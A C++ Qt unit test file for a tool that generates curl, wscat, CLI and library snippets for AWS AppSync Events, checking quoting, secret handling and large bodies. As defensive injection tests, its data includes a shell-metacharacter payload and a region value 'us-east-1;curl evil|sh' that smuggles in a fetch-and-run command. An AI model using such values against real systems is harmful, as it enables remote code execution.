// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/snippets/snippet.h"

#include "core/base/shellwords.h"
#include "core/protocol/headersubprotocol.h"
#include "tests/support/testcase.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryFile>

using namespace eventscope;
using Action = SnippetRequest::Action;
using Language = SnippetLanguage;

namespace {

const QByteArray payload = R"({"it's":"'; $HOME `id` \\ </script>"})";

SnippetRequest request(AuthMode mode, Action action)
{
    SnippetRequest made;
    made.endpoint = *Endpoint::fromInput(QStringLiteral("https://abc.appsync-api.eu-west-1.amazonaws.com/event"));
    made.mode = mode;
    made.action = action;
    made.channel = QStringLiteral("/demo/orders");
    made.events = {payload, "2"};
    return made;
}

/// What a shell makes of the command: its words, with programs that only print them.
QStringList words(const QString &command)
{
    QProcess shell;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QStringLiteral("EVENTSCOPE_API_KEY"), QStringLiteral("da2-test"));
    shell.setProcessEnvironment(environment);
    const QString shows = QStringLiteral("show() { for word; do printf '%s\\0' \"$word\"; done; }\n"
                                         "curl() { show \"$@\"; cat; }\neventscope_cli() { show \"$@\"; cat; }\n"
                                         "wscat() { show \"$@\"; }\nalias eventscope-cli=eventscope_cli\n");
    shell.setStandardInputFile(QProcess::nullDevice());
    QTemporaryFile script; // no argument holds what is too large for one
    if (!script.open() || script.write((shows + command).toUtf8()) < 0 || !script.flush())
        return {};
    shell.start(QStringLiteral("sh"), {script.fileName()});
    shell.waitForFinished();
    return QString::fromUtf8(shell.readAllStandardOutput()).split(QChar(), Qt::SkipEmptyParts);
}

/// The words after each `option`.
QStringList valuesOf(const QStringList &given, const QString &option)
{
    QStringList values;
    for (qsizetype at = 0; at + 1 < given.size(); ++at) {
        if (given.at(at) == option)
            values << given.at(at + 1);
    }
    return values;
}

QJsonObject object(const QString &text)
{
    return QJsonDocument::fromJson(text.toUtf8()).object();
}

const QList<AuthMode> modes{AuthMode::ApiKey, AuthMode::Iam, AuthMode::CognitoUserPools, AuthMode::OpenIdConnect, AuthMode::Lambda};

} // namespace

class TestSnippet : public test::TestCase
{
    Q_OBJECT

private Q_SLOTS:
    void curlText();
    void shellReadsCurlBack();
    void wscatPublishes();
    void wscatSubscribes();
    void wscatSignsWithTheCommandLine();
    void commandLineIsOneOfPosixWords();
    void patternAsksForAChannel();
    void regionIsFilledInOrAskedFor();
    void eachNamesItsSecret_data();
    void eachNamesItsSecret();
    void regionIsNoShellCode();
    void queryStaysOut();
    void byteOrderMarkStays();
    void largeBodyComesByStandardInput();
    void largeEventsComeByStandardInput();
    void tooLargeForACommandLine();
    void librariesNeedTls();
    void curlDoesNotSubscribe();
};

void TestSnippet::curlText()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
    asked.endpoint = *Endpoint::fromUrls(QStringLiteral("http://127.0.0.1:9000/event"), {});
    asked.events = {R"({"a":1})"};
    const QByteArray wanted = "curl -X POST http://127.0.0.1:9000/event -H 'content-type: application/json' "
                              "-H \"x-api-key: $EVENTSCOPE_API_KEY\" --data-raw "
                              "'{\"channel\":\"/demo/orders\",\"events\":[\"{\\\"a\\\":1}\"]}'";
    QCOMPARE(snippet(Language::Curl, asked), QString::fromUtf8(wanted));
}

void TestSnippet::shellReadsCurlBack()
{
    const QStringList read = words(snippet(Language::Curl, request(AuthMode::ApiKey, Action::Publish)));
    QCOMPARE(valuesOf(read, QStringLiteral("-H")),
             QStringList({QStringLiteral("content-type: application/json"), QStringLiteral("x-api-key: da2-test")}));
    const QJsonObject body = object(valuesOf(read, QStringLiteral("--data-raw")).value(0));
    QCOMPARE(body.value(QLatin1String("channel")).toString(), QStringLiteral("/demo/orders"));
    QCOMPARE(body.value(QLatin1String("events")).toArray(), QJsonArray({QString::fromUtf8(payload), QStringLiteral("2")}));
}

void TestSnippet::wscatPublishes()
{
    const QStringList read = words(snippet(Language::Wscat, request(AuthMode::ApiKey, Action::Publish)));
    QCOMPARE(valuesOf(read, QStringLiteral("-c")),
             QStringList(QStringLiteral("wss://abc.appsync-realtime-api.eu-west-1.amazonaws.com/event/realtime")));
    const QStringList subprotocols = valuesOf(read, QStringLiteral("-s"));
    QCOMPARE(subprotocols.value(0), QLatin1String(eventSubprotocol));
    const AuthorizationFields wanted{{"host", "abc.appsync-api.eu-west-1.amazonaws.com"}, {"x-api-key", "da2-test"}};
    QCOMPARE(decodeHeaderSubprotocol(subprotocols.value(1).toLatin1()).value(), wanted);
    QVERIFY(!subprotocols.value(1).contains(QRegularExpression(QStringLiteral("[=+/\\s]"))));
    const QJsonObject frame = object(valuesOf(read, QStringLiteral("-x")).value(1));
    QCOMPARE(frame.value(QLatin1String("type")).toString(), QStringLiteral("publish"));
    QCOMPARE(frame.value(QLatin1String("events")).toArray(), QJsonArray({QString::fromUtf8(payload), QStringLiteral("2")}));
    QCOMPARE(frame.value(QLatin1String("authorization")).toObject().value(QLatin1String("x-api-key")).toString(),
             QStringLiteral("da2-test"));
}

void TestSnippet::wscatSubscribes()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Subscribe);
    asked.channel = QStringLiteral("/demo/*");
    const QStringList frames = valuesOf(words(snippet(Language::Wscat, asked)), QStringLiteral("-x"));
    QCOMPARE(object(frames.value(0)).value(QLatin1String("type")).toString(), QStringLiteral("connection_init"));
    QCOMPARE(object(frames.value(1)).value(QLatin1String("channel")).toString(), QStringLiteral("/demo/*"));
    QCOMPARE(object(frames.value(1)).value(QLatin1String("type")).toString(), QStringLiteral("subscribe"));
    QVERIFY(!object(frames.value(1)).contains(QLatin1String("events")));
}

void TestSnippet::wscatSignsWithTheCommandLine()
{
    const QString text = snippet(Language::Wscat, request(AuthMode::Iam, Action::Publish));
    QVERIFY(text.contains(QStringLiteral("# Signatures serve for five minutes")));
    QVERIFY(text.contains(QStringLiteral("--operation publish --channel /demo/orders --event ")));
}

void TestSnippet::commandLineIsOneOfPosixWords()
{
    const Result<QStringList> read = shellWords(snippet(Language::Cli, request(AuthMode::Lambda, Action::Publish)).section(u'\n', 1));
    QVERIFY(read);
    QCOMPARE(read->mid(0, 2), QStringList({QStringLiteral("eventscope-cli"), QStringLiteral("publish")}));
    QCOMPARE(valuesOf(*read, QStringLiteral("--auth")), QStringList(QStringLiteral("token")));
    QCOMPARE(read->last(), QStringLiteral("2"));
    QCOMPARE(read->at(read->size() - 2).toUtf8(), payload);
}

void TestSnippet::patternAsksForAChannel()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
    asked.channel = QStringLiteral("/demo/*");
    for (const Language language : snippetLanguages()) {
        QVERIFY(snippet(language, asked).contains(QStringLiteral("/demo/CHANNEL")));
        QVERIFY(!snippet(language, asked).contains(QStringLiteral("/demo/*")));
    }
    asked.action = Action::Subscribe;
    QVERIFY(snippet(Language::Kotlin, asked).contains(QStringLiteral("subscribe(\"/demo/*\")")));
}

void TestSnippet::regionIsFilledInOrAskedFor()
{
    SnippetRequest asked = request(AuthMode::Iam, Action::Publish);
    QVERIFY(snippet(Language::Curl, asked).contains(QStringLiteral("aws:amz:eu-west-1:appsync")));
    asked.endpoint = *Endpoint::fromInput(QStringLiteral("https://events.example.com/event"));
    QVERIFY(snippet(Language::Curl, asked).contains(QStringLiteral("aws:amz:REGION:appsync")));
    asked.region = QStringLiteral("sa-east-1");
    QVERIFY(snippet(Language::Python, asked).contains(QStringLiteral("'appsync', 'sa-east-1'")));
}

void TestSnippet::eachNamesItsSecret_data()
{
    QTest::addColumn<AuthMode>("mode");
    for (const AuthMode mode : modes)
        QTest::newRow(authModeName(mode).data()) << mode;
}

/// Amplify's own authorizers of Kotlin and Swift know who is signed in: there is no secret to name.
void TestSnippet::eachNamesItsSecret()
{
    QFETCH(AuthMode, mode);
    const QString variable = mode == AuthMode::ApiKey ? QStringLiteral("EVENTSCOPE_API_KEY")
        : mode == AuthMode::Iam                       ? QStringLiteral("AWS_SECRET_ACCESS_KEY|SigV4Auth|--auth iam|Amplify.Auth")
                                                      : QStringLiteral("EVENTSCOPE_AUTH_TOKEN|AmplifyUserPoolAuthorizer");
    for (const Language language : snippetLanguages()) {
        for (const Action action : {Action::Publish, Action::Subscribe}) {
            if (!canWriteSnippet(language, action))
                continue;
            const QString text = snippet(language, request(mode, action));
            QVERIFY2(text.contains(QRegularExpression(variable)), qPrintable(text));
            QVERIFY2(!text.contains(QRegularExpression(QStringLiteral("%\\d"))), qPrintable(text));
        }
    }
}

void TestSnippet::regionIsNoShellCode()
{
    SnippetRequest asked = request(AuthMode::Iam, Action::Publish);
    asked.region = QStringLiteral("us-east-1;curl evil|sh");
    QVERIFY(words(snippet(Language::Curl, asked)).contains(QStringLiteral("aws:amz:us-east-1;curl evil|sh:appsync")));
    const Result<QStringList> read = shellWords(snippet(Language::Cli, asked).section(u'\n', 1));
    QCOMPARE(valuesOf(*read, QStringLiteral("--region")), QStringList(asked.region));
    QVERIFY(snippet(Language::Wscat, asked).contains(QStringLiteral("--region 'us-east-1;curl evil|sh' --reveal")));
}

void TestSnippet::queryStaysOut()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
    asked.endpoint = *Endpoint::fromUrls(QStringLiteral("https://example.com/event?token=da2-secret"),
                                         QStringLiteral("wss://example.com/realtime?token=da2-secret"));
    for (const Language language : snippetLanguages()) {
        for (const Action action : {Action::Publish, Action::Subscribe}) {
            asked.action = action;
            const QString text = snippet(language, asked);
            QVERIFY2(!text.contains(QStringLiteral("da2-secret")), qPrintable(text));
            QCOMPARE(text.contains(QStringLiteral("is left out: it may hold a secret")), canWriteSnippet(language, action));
        }
    }
}

void TestSnippet::byteOrderMarkStays()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
    asked.events = {"\xef\xbb\xbf{\"a\":1}"};
    const Result<QStringList> read = shellWords(snippet(Language::Cli, asked).section(u'\n', 1));
    QCOMPARE(read->last(), QStringLiteral("\uFEFF{\"a\":1}"));
    QVERIFY(snippet(Language::Python, asked).contains(QStringLiteral("'\\ufeff{\"a\":1}'")));
}

void TestSnippet::largeBodyComesByStandardInput()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
    asked.events << '"' + QByteArray(200'000, 'x') + "$HOME EVENTS\"";
    const QStringList read = words(snippet(Language::Curl, asked));
    QCOMPARE(valuesOf(read, QStringLiteral("--data-binary")), QStringList(QStringLiteral("@-")));
    QCOMPARE(object(read.last()).value(QLatin1String("events")).toArray().last().toString().toUtf8(), asked.events.last());
}

void TestSnippet::largeEventsComeByStandardInput()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
    asked.events << '"' + QByteArray(200'000, 'x') + "$HOME EVENTS\"";
    const QStringList read = words(snippet(Language::Cli, asked));
    QCOMPARE(read.at(read.size() - 2), QStringLiteral("-"));
    QCOMPARE(read.last().toUtf8(), asked.events.join('\n') + '\n');
}

void TestSnippet::tooLargeForACommandLine()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
    asked.events = {"{\n\"a\":\"" + QByteArray(200'000, 'x') + "\"}"};
    for (const Language language : {Language::Wscat, Language::Cli}) {
        const QString text = snippet(language, asked);
        QVERIFY(text.contains(QStringLiteral("too large for a command line")));
        QVERIFY(words(text).isEmpty());
    }
}

void TestSnippet::librariesNeedTls()
{
    SnippetRequest asked = request(AuthMode::ApiKey, Action::Subscribe);
    QVERIFY(!snippet(Language::Swift, asked).contains(QStringLiteral("https and wss only")));
    asked.endpoint
        = *Endpoint::fromUrls(QStringLiteral("http://127.0.0.1:9000/event"), QStringLiteral("ws://127.0.0.1:9001/event/realtime"));
    for (const Language language : {Language::JavaScript, Language::Kotlin, Language::Swift}) {
        QVERIFY(snippet(language, asked).contains(QStringLiteral("// The library speaks https and wss only")));
        QVERIFY(snippet(language, asked).contains(QStringLiteral("it cannot be told ws://127.0.0.1:9001/event/realtime")));
    }
}

void TestSnippet::curlDoesNotSubscribe()
{
    QVERIFY(!canWriteSnippet(Language::Curl, Action::Subscribe));
    QVERIFY(snippet(Language::Curl, request(AuthMode::ApiKey, Action::Subscribe)).isEmpty());
}

QTEST_GUILESS_MAIN(TestSnippet)
#include "tst_snippet.moc"
